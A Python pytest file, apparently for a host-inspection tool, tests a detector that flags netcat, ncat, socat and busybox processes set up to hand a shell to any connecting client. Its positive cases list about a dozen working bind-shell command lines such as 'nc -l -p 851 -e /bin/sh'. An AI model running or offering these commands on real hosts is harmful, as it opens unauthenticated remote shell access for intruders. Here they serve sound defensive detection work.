"""Whether a relay was told to give a shell to whoever is connected."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quietport.host.process.relay import gives_shell, is_relay
from quietport.model.unknown import Reason, Unknown


@pytest.mark.parametrize(
    ("executable", "line"),
    [
        ("/usr/bin/nc.traditional", "nc -l -p 851 -e /bin/sh"),
        ("/usr/bin/nc.traditional", "nc -lvp 851 -c sh"),
        ("/usr/bin/nc.traditional", "nc -lnvpe /bin/bash"),
        ("/usr/bin/ncat", "ncat -k -l 851 --exec /bin/bash|-i"),
        ("/usr/bin/ncat", "ncat -l 851 --sh-exec=exec"),
        ("/usr/bin/socat", "socat TCP-LISTEN:1,fork EXEC:/bin/sh"),
        ("/usr/bin/socat", "socat tcp-l:1 exec:bash,pty,stderr"),
        ("/usr/bin/socat", "socat STDIO!!SYSTEM:sh TCP:h:1"),
        ("/usr/bin/socat1", "socat1 TCP-LISTEN:1 SHELL:zsh"),
        ("/bin/busybox", "busybox nc -ll -p 4446 -e /bin/sh"),
        ("/bin/busybox", "nc -ll -p 4446 -e /bin/busybox sh"),
        ("/bin/busybox", "/bin/busybox telnetd -p 99 -l /bin/ash"),
    ],
)
def test_a_shell_for_whoever_is_connected(executable: str, line: str) -> None:
    words = [word.replace("|", " ") for word in line.split(" ")]
    words = [word + " setsid bash -li" if word == "--sh-exec=exec" else word for word in words]
    assert gives_shell(executable, tuple(words)) is True


@pytest.mark.parametrize(
    ("executable", "line"),
    [
        ("/usr/bin/nc.openbsd", "nc -lk 0.0.0.0 4444"),
        ("/usr/bin/nc.traditional", "nc -l -p 80 -e /usr/local/bin/handler"),
        ("/usr/bin/nc.traditional", "nc -l -p 80 -e"),
        ("/usr/bin/ncat", "ncat -l 80 --exec /srv/sh/handler"),
        ("/usr/bin/ncat", "ncat -l 80 -c /bin/sh|/srv/handler.sh"),
        ("/usr/bin/socat", "socat TCP-LISTEN:1,fork TCP:127.0.0.1:80"),
        ("/usr/bin/socat", "socat TCP-LISTEN:1,fork EXEC:/usr/bin/date"),
        ("/usr/bin/socat", "socat TCP-LISTEN:1,fork OPEN:/bin/sh"),
        ("/bin/busybox", "busybox httpd -f -p 80"),
        ("/bin/busybox", "telnetd -p 23"),
        ("/bin/busybox", "busybox"),
        ("/usr/sbin/nginx", "nc -e /bin/sh"),
        ("/opt/x\\nc", "nc -e /bin/sh"),
        (None, "nc -e /bin/sh"),
    ],
)
def test_anything_else_is_no_shell(executable: str | None, line: str) -> None:
    assert gives_shell(executable, tuple(word.replace("|", " ") for word in line.split(" "))) is False


def test_what_was_not_read_is_not_known() -> None:
    unread = Unknown(Reason.PERMISSION, "command of process 1")
    assert gives_shell("/usr/bin/socat", unread) is unread
    assert gives_shell(unread, ("nc",)) is unread
    assert gives_shell("/usr/sbin/sshd", unread) is False


@given(
    st.sampled_from(["/usr/bin/nc", "/usr/bin/socat", "/bin/busybox"]),
    st.lists(st.sampled_from(["nc", "-e", "--exec=", "exec:", "sh", "!!", "telnetd", "-l", ""]) | st.text(max_size=9)),
)
def test_any_command_line_is_answered(executable: str, words: list[str]) -> None:
    assert is_relay(executable)
    assert gives_shell(executable, tuple(words)) in {True, False}
